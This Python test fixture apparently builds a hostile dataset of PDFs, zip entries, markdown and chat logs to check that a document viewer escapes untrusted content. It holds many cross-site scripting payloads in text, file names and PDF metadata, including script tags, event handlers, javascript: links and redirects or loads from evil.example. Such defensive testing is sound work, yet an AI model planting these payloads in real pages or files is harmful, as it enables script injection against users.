"""A dataset with something for each page of the viewer, of documents that mean harm.

Two versions. `HARM` is what the texts, names, titles and authors try: each way would set
`window.__owned`, open a dialog, or load something from `evil.example`.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import pymupdf

from schemas.recipe import Recipe, parse_recipe
from tests.pipelines.corpora import pdf, prose
from tests.pipelines.datasets import run_here
from tests.pipelines.deep import stage_deep

OWN = "window.__owned=1"
EVIL = "https://evil.example"
NAME = f"<img src=x onerror={OWN}>.pdf"
MEMBER = f"<script>{OWN}</script>/\"onmouseover='{OWN}' x=\".pdf"
TITLE = f"</title><script>{OWN}</script><svg onload={OWN}>"
AUTHOR = f"\" autofocus onfocus='{OWN};alert(1)' x=\""
PLAIN_HARM = (
    f"<script>{OWN};alert(1)</script> <img src={EVIL}/a.png onerror={OWN}> {{{{ 7 * 7 }}}} "
    f"<svg onload={OWN}><style>@import url({EVIL}/b.css)</style></svg>"
)
FRAMES = (
    f"<base href={EVIL}> <meta http-equiv=refresh content=0;url={EVIL}> "
    f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe> "
    f"<form action={EVIL}><input autofocus>"
)
LINKS = (
    f"[good](https://example.org/a) [one](javascript:{OWN}) [two](data:text/html,<b>) ![x]({EVIL})"
    f" [three](java&#115;cript:{OWN}) <javascript:{OWN}> [four](vbscript:x) [five](//evil.example)"
    f" ![y](data:image/svg+xml,<svg/onload={OWN}>) [six](blob:x 'a\" onmouseover=\"{OWN}')"
)
FORMULAS = (
    f"$\\href{{javascript:{OWN}}}{{x}} + \\text{{<img src={EVIL}/c.png onerror={OWN}>}}$ and\n\n"
    f"$$\\style{{background:url({EVIL})}}{{y}} \\includegraphics{{{EVIL}/d.png}} "
    "\\frac{a}{b} = \\sqrt{c}$$"
)
TABLE = (
    f"<table onclick={OWN} style='background:url({EVIL})'><tr><th onmouseover={OWN}>Oil</th>"
    f"<th>m<sup>3</sup></th></tr><tr><td colspan=2>"
    f"<script>{OWN}</script><b>12</b></td></tr></table>"
)
OVERRIDE = "An override \u202eturns\u202c this around, and \u200bhides."
HARM = "\n\n".join((PLAIN_HARM, FRAMES, LINKS, FORMULAS, TABLE, OVERRIDE))
ALIKE = prose(1, words=110)
MAIL = "ada.lovelace@analytical-engines.co.uk"
NOTE = f"""# Wells of the north

What each **well** gave, *by year*, with a formula $V = \\pi r^2 h$ in a line.

| well | 1931 | 1932 |
|:-----|-----:|-----:|
| Alma | 12.5 | 14.0 |
| Birk | 7.25 | 9.5 |

$$\\int_0^1 x^2 \\, dx = \\frac{{1}}{{3}}$$

- first, `code` of the list
- then {LINKS}

> {PLAIN_HARM} {FRAMES}
"""


def write_dataset(folder: Path) -> Path:
    """Make the dataset in `folder`: versions 1 and 2, the second with masked addresses."""
    corpus = folder / "corpus"
    corpus.mkdir(parents=True)
    _write(corpus / "alike.pdf", ALIKE, prose(2))
    _write(corpus / "copy.pdf", f"{ALIKE} zebra", prose(3))
    _write(
        corpus / NAME, f"{prose(4)} {PLAIN_HARM} {FRAMES}", prose(5), f"{prose(6)} Write to {MAIL}."
    )
    _write(corpus / "leaves.pdf", prose(7), prose(8))
    _write(corpus / "empty-page.pdf", prose(9), "")
    (corpus / "note.pdf").write_text(f"this is no document {PLAIN_HARM}")
    _write_locked(corpus / "locked.pdf")
    with zipfile.ZipFile(corpus / "members.zip", "w") as members:
        members.writestr(MEMBER, pdf([prose(11), prose(12)]))
    (folder / "notes").mkdir()
    (folder / "notes" / "wells.md").write_text(NOTE)
    (folder / "chats.jsonl").write_text(json.dumps({"messages": _chat()}) + "\n")
    first, second = (
        _recipe(folder, policies) for policies in ("", "policies: [pii: {default: mask}]")
    )
    stage_deep(first, [NAME], says=lambda page, label: HARM if label == "figure" else label)
    assert run_here(first).version == 1
    (corpus / "leaves.pdf").unlink()
    _write(corpus / "comes.pdf", prose(10))
    assert run_here(second).version == 2
    return folder / "data"


def _recipe(folder: Path, policies: str) -> Recipe:
    return parse_recipe(
        f"dataset: {folder / 'data'}\nrouting: only\non_missing: remove\nmax_removed: 1\n"
        f"dedup: {{near: {{jaccard: 0.8}}}}\n{policies}\nraster: {{longest_edge_px: 800}}\n"
        f"sources:\n- documents: {folder / 'corpus'}\n- text: {folder / 'notes'}\n"
        f"- {{tables: 1}}\n- {{formulas: 1}}\n"
        f"- conversations: {folder / 'chats.jsonl'}\n  fade: {{text: 2, base: 6}}\n"
    )


def _write(path: Path, *texts: str) -> None:
    made = pymupdf.open(stream=pdf(list(texts)))
    made.set_metadata({"title": TITLE, "author": AUTHOR})
    path.write_bytes(made.tobytes(no_new_id=True))


def _write_locked(path: Path) -> None:
    made = pymupdf.open(stream=pdf([prose(13)]))
    path.write_bytes(
        made.tobytes(encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw="x", owner_pw="y")
    )


def _chat() -> list[dict[str, Any]]:
    roles = ("user", "assistant")
    return [
        {"role": roles[n % 2], "content": f"{prose(50 + n, words=30)} {HARM if n > 8 else ''}"}
        for n in range(10)
    ]
